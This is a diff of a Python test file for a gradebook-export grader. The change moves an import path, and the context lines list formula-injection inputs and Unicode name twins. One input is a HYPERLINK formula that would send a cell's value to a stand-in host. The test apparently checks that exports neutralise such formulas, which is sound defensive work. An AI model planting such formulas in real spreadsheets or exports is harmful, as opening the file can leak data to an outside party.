@@ -21,7 +21,7 @@ from grader.classpage import gradebook
 from grader.lms.exports import MOODLE_PARTICIPANT
 
 from .conftest import run_grader
-from .lms_downloads import CORRECT, write_folder
+from .corpora.lms_downloads import CORRECT, write_folder
 
 FORMULAS = ["=alice", "+SUM(1;2)", "-2+3", "@SUM(A1)", '=HYPERLINK("x.test?q="+A1;"nota")', "\uff1dSUM(1)"]
 TWINS = ["José Nfc", "Jose\u0301 Nfc"]  # composed and decomposed: one file name on macOS or an SMB share
